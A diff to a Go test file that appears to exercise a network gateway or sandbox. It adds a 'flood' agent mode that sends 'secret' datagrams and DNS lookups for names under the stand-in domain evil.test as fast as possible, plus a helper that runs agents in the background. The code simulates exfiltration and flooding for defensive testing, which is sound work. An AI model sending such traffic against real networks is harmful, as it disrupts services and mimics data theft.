@@ -538,7 +538,7 @@ func (p *pair) agent(ctx context.Context, args ...string) (string, error) {
 }
 
 // act is the agent's side: connect ADDR, send ADDR, upload ADDR, lookup SERVER
-// NAME NETWORK, or loop SERVER. It prints what came of it and how long it took.
+// NAME NETWORK, loop SERVER or flood ADDR. It prints what came of it and how long it took.
 func act(args []string) int {
 	if err := syscall.Setresgid(agentUID, agentUID, agentUID); err != nil {
 		fmt.Println(err)
@@ -578,6 +578,8 @@ func act(args []string) int {
 		}
 	case "loop":
 		return loop(args[1])
+	case "flood":
+		return flood(args[1])
 	}
 	fmt.Printf("%v after %v\n", err, time.Since(began))
 	if err != nil {
@@ -608,5 +610,73 @@ func loop(server string) int {
 		if _, _, err := c.Exchange(new(dns.Msg).SetQuestion("secret.evil.test.", dns.TypeA), server); err == nil {
 			answers++
 		}
+	}
+}
+
+// flood sends datagrams and looks names up as fast as it can until standard
+// input ends.
+func flood(to string) int {
+	stop := make(chan struct{})
+	go func() { io.Copy(io.Discard, os.Stdin); close(stop) }()
+	sink, err := net.Dial("udp", to)
+	if err != nil {
+		fmt.Println(err)
+		return 1
+	}
+	names, err := net.Dial("udp", "127.0.0.1:53")
+	if err != nil {
+		fmt.Println(err)
+		return 1
+	}
+	fmt.Println("flooding")
+	for i := 0; ; i++ {
+		select {
+		case <-stop:
+			fmt.Println(i)
+			return 0
+		default:
+		}
+		sink.Write([]byte("secret"))
+		if q, err := new(dns.Msg).SetQuestion(fmt.Sprintf("x%d.evil.test.", i), dns.TypeA).Pack(); err == nil {
+			names.Write(q)
+		}
+	}
+}
+
+// background starts an agent that goes on until the returned function is
+// called, which gives what it printed after its first line.
+func (p *pair) background(args ...string) (stop func() string) {
+	p.t.Helper()
+	self, err := os.Executable()
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	cmd := exec.CommandContext(p.t.Context(), "nsenter", append([]string{"--net=/run/netns/" + p.gate, self, "agent"}, args...)...)
+	stdin, err := cmd.StdinPipe()
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	stdout, err := cmd.StdoutPipe()
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		p.t.Fatal(err)
+	}
+	lines := bufio.NewReader(stdout)
+	if line, err := lines.ReadString('\n'); err != nil {
+		p.t.Fatalf("%q, %v", line, err)
+	}
+	return func() string {
+		p.t.Helper()
+		stdin.Close()
+		rest, err := io.ReadAll(lines)
+		if err != nil {
+			p.t.Error(err)
+		}
+		if err := cmd.Wait(); err != nil {
+			p.t.Error(err)
+		}
+		return strings.TrimSpace(string(rest))
 	}
 }
